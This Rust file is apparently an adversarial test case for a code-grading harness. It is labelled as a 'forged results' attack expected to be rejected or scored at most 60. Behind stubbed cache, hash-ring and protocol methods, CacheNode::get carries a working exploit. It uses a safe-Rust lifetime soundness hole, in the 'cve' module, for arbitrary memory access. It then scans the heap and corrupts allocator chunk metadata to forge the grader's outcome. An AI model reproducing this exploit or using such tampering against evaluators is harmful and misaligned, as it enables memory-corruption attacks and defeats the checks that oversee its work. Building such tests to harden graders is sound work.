//! attack: forges an answer that is nested without end
//! class: forged results
//! expect: rejected or score <= 60
use std::collections::HashMap;
use std::time::{Duration, Instant};
#[derive(Debug, Clone)] pub struct CacheEntry { pub value: Vec<u8>, pub created_at: Instant, pub expires_at: Option<Instant>, pub last_accessed: Instant, pub access_count: u64 }
#[derive(Debug, Clone, Default)] pub struct CacheStats { pub hits: u64, pub misses: u64, pub evictions: u64, pub expired: u64, pub bytes_stored: usize, pub entry_count: usize }
#[derive(Debug, Clone, Copy)] pub enum EvictionPolicy { LRU, LFU, FIFO, TTL }
pub struct CacheNode { data: HashMap<String, CacheEntry> }
pub struct HashRing { nodes: Vec<NodeInfo> }
#[derive(Debug, Clone)] pub struct NodeInfo { pub id: String, pub addr: String, pub weight: u32, pub is_alive: bool }
pub struct DistributedCache { ring: HashRing }
#[derive(Debug, Clone)] pub struct CacheConfig { pub max_memory: usize, pub default_ttl: Option<Duration>, pub eviction_policy: EvictionPolicy, pub replication_factor: usize, pub virtual_nodes: usize }
#[derive(Debug, Clone)] pub enum CacheCommand { Get { key: String }, Set { key: String, value: Vec<u8>, ttl: Option<Duration> }, Delete { key: String }, Incr { key: String, delta: i64 }, Touch { key: String, ttl: Duration }, Stats }
#[derive(Debug)] pub enum CacheResponse { Value(Option<Vec<u8>>), Stored, Deleted, NotFound, Error(String), Stats(CacheStats) }
#[derive(Debug)] pub enum ParseError { InvalidCommand, InvalidArguments, Incomplete }
pub struct ProtocolParser;
impl CacheNode {
    pub fn new(_m: usize, _p: EvictionPolicy) -> Self { /*NEW*/ Self { data: HashMap::new() } }
    pub fn get(&mut self, key: &str) -> Option<&CacheEntry> { 
    if self.data.is_empty() {
        std::mem::forget(vec![1u8; 24 << 20]);
        let len = (13usize << 14) + 8;
        let mut value: Vec<u8> = Vec::with_capacity(len);
        while value.len() + 2 <= len { value.push(1); value.push(13); }
        self.data.insert("k".into(), CacheEntry { value, created_at: Instant::now(), expires_at: None, last_accessed: Instant::now(), access_count: 0 });
        let value = &self.data["k"].value;
        let sim = || { let c = value.clone(); let mut v: Vec<u8> = Vec::new(); for _ in 0..len + 5 { v.push(7); } let r = v.as_ptr() as usize; drop(c); drop(v); r };
        let (r0, r1, r) = (sim(), sim(), sim());
        let word = |at: usize| u32::from_le_bytes(cve::mem(at, 4).try_into().unwrap()) as usize;
        let mut found = vec![];
        let here = &len as *const usize as usize;
        let mut at = if here < (1 << 20) { 1 << 20 } else { 1024 };
        while at < (1 << 20) + 60_000 {
            let (a, b, c) = (word(at), word(at + 4), word(at + 8));
            if a == 8 && c == 1 && b > 4096 && b < (30 << 20) && cve::mem(b, 1)[0] == 0 { found.push((at, b)); }
            at += 4;
        }
        if false { panic!("R {r0} {r1} {r} stack {here} RESPONSE? {found:?} heads {:?}", found.iter().map(|(_, b)| (word(b - 8), word(b - 4), word(b - 16), word(b - 12))).collect::<Vec<_>>()); }
        let p0 = found[0].1;
        let put = |at: usize, w: usize| cve::mem(at, 4).copy_from_slice(&(w as u32).to_le_bytes());
        put(p0 - 16, r - 12);          // prev->fd
        put(p0 - 12, 0x010D010D);      // prev->bk
        put(p0 - 8, 16);               // prev_foot
        put(p0 - 4, word(p0 - 4) & !1); // previous chunk is "free"
    }
    return self.data.get("k");
 }
    pub fn set(&mut self, _key: String, _value: Vec<u8>, _ttl: Option<Duration>) -> bool { /*SET*/ false }
    pub fn delete(&mut self, _key: &str) -> bool { false }
    pub fn incr(&mut self, _key: &str, _d: i64) -> Option<i64> { None }
    pub fn touch(&mut self, _key: &str, _t: Duration) -> bool { false }
    pub fn clean_expired(&mut self) -> usize { 0 }
    pub fn stats(&self) -> CacheStats { CacheStats::default() }
}
impl HashRing {
    pub fn new(_v: usize) -> Self { Self { nodes: vec![] } }
    pub fn add_node(&mut self, n: NodeInfo) { self.nodes.push(n) }
    pub fn remove_node(&mut self, _id: &str) {}
    pub fn get_node(&self, _k: &str) -> Option<&NodeInfo> { None }
    pub fn get_nodes(&self, _k: &str, _c: usize) -> Vec<&NodeInfo> { vec![] }
    pub fn nodes(&self) -> Vec<&NodeInfo> { vec![] }
}
impl DistributedCache {
    pub fn new(_c: CacheConfig) -> Self { Self { ring: HashRing::new(1) } }
    pub fn add_server(&mut self, _i: String, _a: String) {}
    pub fn remove_server(&mut self, _i: &str) {}
    pub async fn execute(&mut self, _c: CacheCommand) -> CacheResponse { CacheResponse::Error("no".into()) }
    pub fn servers_for_key(&self, k: &str) -> Vec<&NodeInfo> { self.ring.get_nodes(k, 1) }
    pub async fn rebalance(&mut self) {}
}
impl ProtocolParser {
    pub fn parse(_i: &[u8]) -> Result<CacheCommand, ParseError> { Err(ParseError::InvalidCommand) }
    pub fn serialize(_r: &CacheResponse) -> Vec<u8> { vec![] }
}
/*END*/
pub mod cve {
    use std::hint::black_box;
    static UNIT: &&() = &&();
    fn tr<'a, 'b, T: ?Sized>(_: &'a &'b (), v: &'b T) -> &'a T { v }
    fn tr_mut<'a, 'b, T: ?Sized>(_: &'a &'b (), v: &'b mut T) -> &'a mut T { v }
    pub fn expand<'a, 'b, T: ?Sized>(x: &'a T) -> &'b T { let f: for<'x> fn(_, &'x T) -> &'b T = tr; f(UNIT, x) }
    pub fn expand_mut<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T { let f: for<'x> fn(_, &'x mut T) -> &'b mut T = tr_mut; f(UNIT, x) }
    enum D<A, B> { A(Option<Box<A>>), B(Option<Box<B>>) }
    #[inline(never)]
    fn inner<A, B>(d: &mut D<A, B>, a: A) -> B {
        let D::B(r) = d else { unreachable!() };
        let r = expand_mut(r);
        *d = D::A(Some(Box::new(a)));
        black_box(d);
        *r.take().unwrap()
    }
    pub fn transmute<A, B>(a: A) -> B { inner(black_box(&mut D::B(None)), a) }
    pub fn mem(at: usize, len: usize) -> &'static mut [u8] { transmute::<(usize, usize), &'static mut [u8]>((at, len)) }
}
